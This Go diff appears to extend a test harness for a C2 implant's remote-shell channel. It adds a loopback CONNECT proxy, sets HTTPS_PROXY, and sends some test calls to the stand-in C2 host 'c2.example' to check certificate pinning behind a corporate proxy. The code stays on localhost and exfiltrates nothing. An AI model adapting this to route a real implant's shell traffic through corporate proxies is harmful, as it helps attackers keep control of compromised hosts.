@@ -1,6 +1,8 @@
 package main
 
 import (
+	"net"
+	"bufio"
 	"context"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -53,7 +55,7 @@ func mkCertSerial(cn string, parent *genCert, isCA bool, serial *big.Int) *genCe
 	t := &x509.Certificate{SerialNumber: serial, Subject: pkix.Name{CommonName: cn}, NotBefore: time.Now().Add(-time.Hour),
 		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
 		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true, IsCA: isCA,
-		DNSNames: []string{"localhost"}, IPAddresses: nil}
+		DNSNames: []string{"localhost", "c2.example"}, IPAddresses: nil}
 	t.IPAddresses = append(t.IPAddresses, []byte{127, 0, 0, 1})
 	pt, pk := t, k
 	if nil != parent {
@@ -116,6 +118,46 @@ func pinMain(args []string) {
 		k, _ := x509.ParsePKCS8PrivateKey(kblk.Bytes)
 		ca = &genCert{der: b.Bytes, key: k.(*ecdsa.PrivateKey)}
 	}
+	/* A forwarding proxy (CONNECT), as an implant behind a corporate proxy has it: HTTPS_PROXY is in the environment for the whole run.
+	net/http never proxies loopback addresses, so only calls which name the C2 "c2.example" go through it; it connects them to 127.0.0.1. */
+	pl, err := net.Listen("tcp", "127.0.0.1:0")
+	if nil != err {
+		panic(err)
+	}
+	var proxied atomic.Int64
+	go func() {
+		for {
+			c, err := pl.Accept()
+			if nil != err {
+				return
+			}
+			go func() {
+				defer c.Close()
+				br := bufio.NewReader(c)
+				rq, err := http.ReadRequest(br)
+				if nil != err || http.MethodConnect != rq.Method {
+					io.WriteString(c, "HTTP/1.1 405 Method Not Allowed\r\n\r\n")
+					return
+				}
+				_, port, _ := net.SplitHostPort(rq.Host)
+				u, err := net.Dial("tcp", net.JoinHostPort("127.0.0.1", port))
+				if nil != err {
+					io.WriteString(c, "HTTP/1.1 502 Bad Gateway\r\n\r\n")
+					return
+				}
+				defer u.Close()
+				proxied.Add(1)
+				io.WriteString(c, "HTTP/1.1 200 Connection established\r\n\r\n")
+				go io.Copy(u, br)
+				io.Copy(c, u)
+			}()
+		}
+	}()
+	defer pl.Close()
+	os.Setenv("HTTPS_PROXY", "http://"+pl.Addr().String())
+	os.Setenv("https_proxy", "http://"+pl.Addr().String())
+	os.Unsetenv("NO_PROXY")
+	os.Unsetenv("no_proxy")
 	var servers []*pinServer
 	first := true
 	eachLine(func(m map[string]any) {
@@ -195,6 +237,9 @@ func pinMain(args []string) {
 			func() {
 				defer func() { pan = recover() }()
 				c2 := srv.srv.URL + simpleshell.IOPath
+				if true == m["proxy"] { /* the same server, named so that the process's HTTPS_PROXY applies */
+					c2 = strings.Replace(c2, "127.0.0.1", "c2.example", 1)
+				}
 				if sc, ok := m["scheme"].(string); ok && strings.HasPrefix(c2, "https://") { /* URL schemes are case-insensitive */
 					c2 = sc + c2[len("https"):]
 				}
@@ -205,7 +250,7 @@ func pinMain(args []string) {
 			if nil != nested && num(m["srv"]) == num(m["nested"].(map[string]any)["srv"]) && true == nested["hit"] {
 				hitNow-- /* the nested call's own request */
 			}
-			res := map[string]any{"i": m["i"], "hit": hitNow > 0, "global": globalState(), "fp": hx([]byte(fp))}
+			res := map[string]any{"i": m["i"], "hit": hitNow > 0, "global": globalState(), "fp": hx([]byte(fp)), "proxied": proxied.Load()}
 			if nil != nested {
 				res["nested"] = nested
 			}
